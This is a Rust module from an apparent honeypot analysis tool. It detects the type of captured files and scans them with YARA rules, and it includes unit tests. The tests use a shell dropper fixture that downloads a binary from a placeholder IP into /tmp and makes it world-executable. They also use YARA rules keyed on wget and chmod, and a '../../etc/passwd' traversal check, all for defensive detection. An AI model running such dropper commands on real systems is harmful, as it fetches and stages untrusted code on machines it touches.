//! Analysis of captured files: what each file is (type, category, architecture, from
//! [`hpti_core::file::detect`]) and which YARA rules match it. Configured by the
//! `[analysis]` section; runs as the first enricher of the pipeline, on every
//! `file.download` and `file.upload` event whose content is in the artifact store.
//!
//! YARA runs on [boreal](https://docs.rs/boreal), a YARA engine written in Rust: it
//! reads the same rules as libyara (with the `hash`, `elf` and `pe` modules) and builds in
//! seconds with no C toolchain, where `yara-x` pulls in Wasmtime (minutes of CI per
//! build).
//!
//! ```
//! use hpti_enrich::file::{FileAnalyzer, YaraRules};
//!
//! let rules = YaraRules::from_source(
//!     r#"rule elf_dropper { strings: $w = "wget " condition: uint32(0) == 0x464c457f and $w }"#,
//! )
//! .unwrap();
//! let dir = tempfile::tempdir().unwrap();
//! let analyzer = FileAnalyzer::new(dir.path(), Some(rules.into()), 1 << 20);
//! let analysis = analyzer.analyse_bytes(b"\x7fELF\x01\x01\x01\0... wget http://x/y");
//! assert_eq!(analysis.yara_matches, ["elf_dropper"]);
//! assert_eq!(analysis.kind.category, hpti_core::file::FileCategory::Executable);
//! ```

use std::fs;
use std::io::{self, Read};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use hpti_core::enricher::{EnrichError, Enricher};
use hpti_core::event::{Event, EventKind};
use hpti_core::file::{FileAnalysis, detect_prefix};
use serde::{Deserialize, Serialize};

pub use hpti_core::file::artifact_path;

/// The `[analysis]` section.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct AnalysisConfig {
    /// A directory of YARA rule files (`*.yar`, `*.yara`), relative to the config file's
    /// directory. Unset: `rules/yara` when that directory exists, else no YARA.
    pub yara_rules: Option<PathBuf>,
    /// Largest file analysed whole; of a larger one only the type is detected (from its
    /// first bytes) and YARA does not run.
    pub max_file_size: u64,
    /// Longest one YARA scan may take.
    #[serde(with = "humantime_serde")]
    pub scan_timeout: Duration,
}

/// The rule directory used when `yara_rules` is not set and it exists.
pub const DEFAULT_YARA_RULES: &str = "rules/yara";

impl Default for AnalysisConfig {
    fn default() -> Self {
        Self {
            yara_rules: None,
            max_file_size: 64 * 1024 * 1024,
            scan_timeout: Duration::from_secs(10),
        }
    }
}

/// The rules could not be loaded.
#[derive(Debug, thiserror::Error)]
pub enum AnalysisError {
    /// The rule directory could not be read.
    #[error("YARA rules {}: {source}", path.display())]
    Read {
        /// The directory or file.
        path: PathBuf,
        /// Why.
        #[source]
        source: io::Error,
    },
    /// A rule file does not compile (the message names the file, line and column).
    #[cfg(feature = "yara")]
    #[error("YARA rules: {0}")]
    Compile(String),
    /// YARA is not compiled in.
    #[cfg(not(feature = "yara"))]
    #[error("YARA rules {}: this build has no YARA engine (feature `yara`)", .0.display())]
    NoEngine(PathBuf),
}

/// Compiled YARA rules.
pub struct YaraRules {
    #[cfg(feature = "yara")]
    scanner: boreal::Scanner,
    files: Vec<PathBuf>,
}

impl std::fmt::Debug for YaraRules {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("YaraRules")
            .field("files", &self.files)
            .finish()
    }
}

impl YaraRules {
    /// Compiles every `*.yar` and `*.yara` file of `dir` (sorted by name; each in a
    /// namespace named after the file, so two files may use the same rule name).
    pub fn load_dir(dir: &Path, scan_timeout: Duration) -> Result<Self, AnalysisError> {
        let read = |source| AnalysisError::Read {
            path: dir.to_owned(),
            source,
        };
        let mut files: Vec<PathBuf> = fs::read_dir(dir)
            .map_err(read)?
            .filter_map(|entry| entry.ok().map(|e| e.path()))
            .filter(|path| {
                path.is_file()
                    && path
                        .extension()
                        .is_some_and(|ext| ext == "yar" || ext == "yara")
            })
            .collect();
        files.sort();
        #[cfg(feature = "yara")]
        {
            let mut compiler = boreal::Compiler::new();
            for file in &files {
                let namespace = file
                    .file_stem()
                    .map(|s| s.to_string_lossy().into_owned())
                    .unwrap_or_default();
                compiler
                    .add_rules_file_in_namespace(file, namespace)
                    .map_err(|e| AnalysisError::Compile(e.to_string()))?;
            }
            let mut scanner = compiler.finalize();
            scanner.set_scan_params(
                boreal::scanner::ScanParams::default().timeout_duration(Some(scan_timeout)),
            );
            Ok(Self { scanner, files })
        }
        #[cfg(not(feature = "yara"))]
        {
            let _ = (files, scan_timeout);
            Err(AnalysisError::NoEngine(dir.to_owned()))
        }
    }

    /// Compiles rules given as text (tests, examples).
    #[cfg(feature = "yara")]
    pub fn from_source(source: &str) -> Result<Self, AnalysisError> {
        let mut compiler = boreal::Compiler::new();
        compiler
            .add_rules_str(source)
            .map_err(|e| AnalysisError::Compile(e.to_string()))?;
        Ok(Self {
            scanner: compiler.finalize(),
            files: Vec::new(),
        })
    }

    /// The rule files compiled.
    pub fn files(&self) -> &[PathBuf] {
        &self.files
    }

    /// Names of the rules that match `content`, sorted, each once. A scan cut by the
    /// timeout reports what matched until then.
    pub fn scan(&self, content: &[u8]) -> Vec<String> {
        #[cfg(feature = "yara")]
        {
            let result = match self.scanner.scan_mem(content) {
                Ok(result) => result,
                Err((error, partial)) => {
                    tracing::warn!(%error, "YARA scan cut short");
                    partial
                }
            };
            let mut names: Vec<String> = result
                .rules
                .iter()
                .filter(|rule| rule.matched)
                .map(|rule| rule.name.to_owned())
                .collect();
            names.sort();
            names.dedup();
            names
        }
        #[cfg(not(feature = "yara"))]
        {
            let _ = content;
            Vec::new()
        }
    }
}

/// Analyses captured files: type detection and YARA. As an [`Enricher`] it sets
/// [`Enrichment::file`](hpti_core::event::Enrichment::file) of file events whose content
/// is in the artifact store, and remembers each hash's analysis (a sample fetched a
/// thousand times is read once).
#[derive(Debug, Clone)]
pub struct FileAnalyzer {
    artifacts: Arc<PathBuf>,
    yara: Option<Arc<YaraRules>>,
    max_file_size: u64,
    cache: moka::future::Cache<String, Option<Arc<FileAnalysis>>>,
}

/// Hashes whose analysis is remembered.
const CACHE_ENTRIES: u64 = 10_000;
/// How long an analysis is remembered: `hpti analysis rescan` updates the store, and a
/// running process picks new rules up within this time of a restart-free rescan.
const CACHE_TTL: Duration = Duration::from_secs(3600);

impl FileAnalyzer {
    /// An analyzer of the files under `artifacts` (the artifact store's directory), with
    /// `yara` rules if any; files larger than `max_file_size` only get their type.
    pub fn new(artifacts: &Path, yara: Option<Arc<YaraRules>>, max_file_size: u64) -> Self {
        Self {
            artifacts: Arc::new(artifacts.to_owned()),
            yara,
            max_file_size,
            cache: moka::future::Cache::builder()
                .max_capacity(CACHE_ENTRIES)
                .time_to_live(CACHE_TTL)
                .build(),
        }
    }

    /// The YARA rules, if any.
    pub fn yara(&self) -> Option<&YaraRules> {
        self.yara.as_deref()
    }

    /// The artifact store's directory.
    pub fn artifacts(&self) -> &Path {
        &self.artifacts
    }

    /// The analysis of `content` (a whole file).
    pub fn analyse_bytes(&self, content: &[u8]) -> FileAnalysis {
        let size = content.len() as u64;
        FileAnalysis {
            kind: detect_prefix(content, size),
            size,
            yara_matches: self
                .yara
                .as_ref()
                .map(|rules| rules.scan(content))
                .unwrap_or_default(),
        }
    }

    /// The analysis of the file at `path`, reading at most `max_file_size` bytes
    /// (blocking). Only the type of a larger file is detected, from its first bytes.
    pub fn analyse_path(&self, path: &Path) -> io::Result<FileAnalysis> {
        let file = fs::File::open(path)?;
        let size = file.metadata()?.len();
        if size > self.max_file_size {
            let mut prefix = Vec::with_capacity(hpti_core::file::TEXT_SNIFF_BYTES);
            file.take(hpti_core::file::TEXT_SNIFF_BYTES as u64)
                .read_to_end(&mut prefix)?;
            return Ok(FileAnalysis {
                kind: detect_prefix(&prefix, size),
                size,
                yara_matches: Vec::new(),
            });
        }
        let mut content = Vec::with_capacity(usize::try_from(size).unwrap_or(0));
        file.take(self.max_file_size).read_to_end(&mut content)?;
        Ok(self.analyse_bytes(&content))
    }

    /// The analysis of the stored file with this hash; `None` when the store does not
    /// hold it (a log's download whose content never reached hpti).
    pub async fn analyse_stored(&self, sha256: &str) -> Result<Option<FileAnalysis>, io::Error> {
        let Some(path) = artifact_path(&self.artifacts, sha256) else {
            return Ok(None);
        };
        let analyzer = self.clone();
        tokio::task::spawn_blocking(move || match analyzer.analyse_path(&path) {
            Ok(analysis) => Ok(Some(analysis)),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(None),
            Err(e) => Err(e),
        })
        .await
        .map_err(io::Error::other)?
    }
}

/// The SHA-256 of a file event.
fn file_sha256(event: &Event) -> Option<&str> {
    match &event.kind {
        EventKind::FileDownload {
            sha256: Some(sha256),
            ..
        }
        | EventKind::FileUpload {
            sha256: Some(sha256),
            ..
        } => Some(sha256),
        _ => None,
    }
}

#[async_trait]
impl Enricher for FileAnalyzer {
    fn name(&self) -> &str {
        "file-analysis"
    }

    async fn enrich(&self, event: &mut Event) -> Result<(), EnrichError> {
        let Some(sha256) = file_sha256(event) else {
            return Ok(());
        };
        let sha256 = sha256.to_ascii_lowercase();
        let analysis = self
            .cache
            .try_get_with(sha256.clone(), async {
                self.analyse_stored(&sha256)
                    .await
                    .map(|found| found.map(Arc::new))
            })
            .await
            .map_err(|e| EnrichError::msg(format!("analysing {sha256}: {e}")))?;
        if let Some(analysis) = analysis {
            event.enrichment.file = Some((*analysis).clone());
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;

    #[test]
    fn artifact_paths_stay_inside_the_store() {
        let dir = Path::new("/data/artifacts");
        let sha = "ba2534450b8656abf087caa55ad5bd9d9ce1a858293c68c01579bf9b5472b199";
        assert_eq!(artifact_path(dir, sha).unwrap(), dir.join("ba").join(sha));
        assert_eq!(artifact_path(dir, "../../etc/passwd"), None);
        assert_eq!(artifact_path(dir, &sha.to_ascii_uppercase()), None);
        assert_eq!(artifact_path(dir, &format!("{sha}/..")), None);
    }

    #[cfg(feature = "yara")]
    #[tokio::test]
    async fn the_enricher_analyses_stored_files_once_and_skips_missing_ones() {
        let dir = tempfile::tempdir().unwrap();
        let content = b"#!/bin/sh\nwget http://203.0.113.9/bins/x86 -O /tmp/x; chmod 777 /tmp/x\n";
        let sha = {
            use sha2::Digest;
            let digest = sha2::Sha256::digest(content);
            digest
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect::<String>()
        };
        let path = artifact_path(dir.path(), &sha).unwrap();
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, content).unwrap();
        let rules =
            YaraRules::from_source(r#"rule dropper { strings: $a = "chmod 777" condition: $a }"#)
                .unwrap();
        let analyzer = FileAnalyzer::new(dir.path(), Some(Arc::new(rules)), 1 << 20);
        let mut event = Event::new(
            "ssh-1",
            hpti_core::event::Protocol::Ssh,
            "203.0.113.7".parse().unwrap(),
            EventKind::FileDownload {
                url: "http://203.0.113.9/x.sh".into(),
                sha256: Some(sha.clone()),
                size: Some(content.len() as u64),
                error: None,
            },
        );
        analyzer.enrich(&mut event).await.unwrap();
        let file = event.enrichment.file.clone().unwrap();
        assert_eq!(file.kind.file_type, "POSIX shell script");
        assert_eq!(file.yara_matches, ["dropper"]);
        assert_eq!(file.size, content.len() as u64);
        // Cached: the file can go, the analysis stays.
        fs::remove_file(&path).unwrap();
        let mut again = event.clone();
        again.enrichment.file = None;
        analyzer.enrich(&mut again).await.unwrap();
        assert_eq!(again.enrichment.file, Some(file));
        // A hash the store never held: no analysis, no error.
        let mut missing = event.clone();
        missing.enrichment.file = None;
        missing.kind = EventKind::FileDownload {
            url: "http://x/".into(),
            sha256: Some("0".repeat(64)),
            size: None,
            error: None,
        };
        analyzer.enrich(&mut missing).await.unwrap();
        assert_eq!(missing.enrichment.file, None);
    }

    #[test]
    fn a_large_file_gets_its_type_but_no_scan() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("big");
        let mut content = b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x08\0".to_vec();
        content.resize(4096, b'A');
        fs::write(&path, &content).unwrap();
        let analyzer = FileAnalyzer::new(dir.path(), None, 1024);
        let analysis = analyzer.analyse_path(&path).unwrap();
        assert_eq!(analysis.size, 4096);
        assert_eq!(analysis.kind.arch.as_deref(), Some("MIPS"));
    }
}
